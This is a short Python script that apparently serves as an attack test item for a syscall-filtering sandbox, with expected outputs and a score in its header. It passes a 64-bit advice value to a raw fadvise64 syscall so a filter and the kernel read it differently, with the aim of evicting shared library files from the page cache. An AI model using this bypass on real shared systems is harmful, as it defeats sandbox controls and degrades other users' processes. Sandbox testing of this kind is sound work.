# /// attack
# title = "has the system forget the libraries that its neighbours are going to read"
# score = 100
# says = ["PermissionError: “[Errno 1] Operation not permitted", "-1"]
# then_right = true
# ///
import ctypes
import os

library = os.open(os.__file__, os.O_RDONLY)
os.posix_fadvise(library, 0, 0, os.POSIX_FADV_WILLNEED)
# The kernel looks at the lower half of this number, a filter at both.
FADVISE64 = {"x86_64": 221, "aarch64": 223}[os.uname().machine]
arguments = [FADVISE64, library, 0, 0, 2**32 + os.POSIX_FADV_DONTNEED]
print(ctypes.CDLL(None).syscall(*map(ctypes.c_long, arguments)))
os.posix_fadvise(library, 0, 0, os.POSIX_FADV_DONTNEED)
